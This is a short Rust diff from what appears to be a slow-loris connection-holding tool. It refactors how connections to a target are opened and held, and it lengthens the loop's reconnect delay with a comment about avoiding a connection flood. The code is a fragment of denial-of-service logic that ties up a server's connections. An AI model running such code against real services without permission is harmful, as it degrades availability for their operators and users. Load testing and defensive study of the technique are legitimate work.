@@ -89,14 +89,17 @@ struct Target {
 #[allow(dead_code)]
 enum Silent {
     Socket(TcpStream),
-    Connection(Connection),
+    Connection(Box<Connection>),
 }
 
 impl Target {
     async fn silent(&self) -> Option<Silent> {
         let silent = match self.socket {
             Some(address) => TcpStream::connect(address).await.ok().map(Silent::Socket),
-            None => connect(&self.url, &self.options).await.ok().map(Silent::Connection),
+            None => {
+                let connected = connect(&self.url, &self.options).await;
+                connected.ok().map(|connection| Silent::Connection(Box::new(connection)))
+            }
         };
         self.reached.connections.fetch_add(usize::from(silent.is_some()), Ordering::Relaxed);
         silent
@@ -134,7 +137,8 @@ async fn slow_loris(target: Arc<Target>) {
             Some(Silent::Connection(_held)) => sleep(Duration::from_secs(5)).await,
             None => {}
         }
-        sleep(Duration::from_millis(100)).await;
+        // Coming back at once would be a flood of connections, which is another attack.
+        sleep(Duration::from_secs(1)).await;
     }
 }
 
